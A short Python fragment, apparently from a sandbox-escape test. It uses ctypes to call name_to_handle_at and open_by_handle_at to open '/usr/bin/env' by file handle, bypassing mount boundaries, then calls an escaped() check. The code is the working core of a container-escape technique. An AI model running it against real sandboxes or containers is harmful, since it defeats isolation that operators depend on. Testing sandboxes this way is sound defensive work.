# A file handle names a file of the whole file system, whatever is mounted here.
class Handle(ctypes.Structure):
    _fields_ = [('size', ctypes.c_uint), ('type', ctypes.c_int), ('bytes', ctypes.c_ubyte * 128)]
handle, mount = Handle(128), ctypes.c_int()
check(libc.name_to_handle_at(-100, b'/usr/bin/env', ctypes.byref(handle), ctypes.byref(mount), 0), 'name_to_handle_at')
folder = os.open('/usr', os.O_RDONLY)
check(libc.open_by_handle_at(folder, ctypes.byref(handle), os.O_RDONLY), 'open_by_handle_at')
escaped()
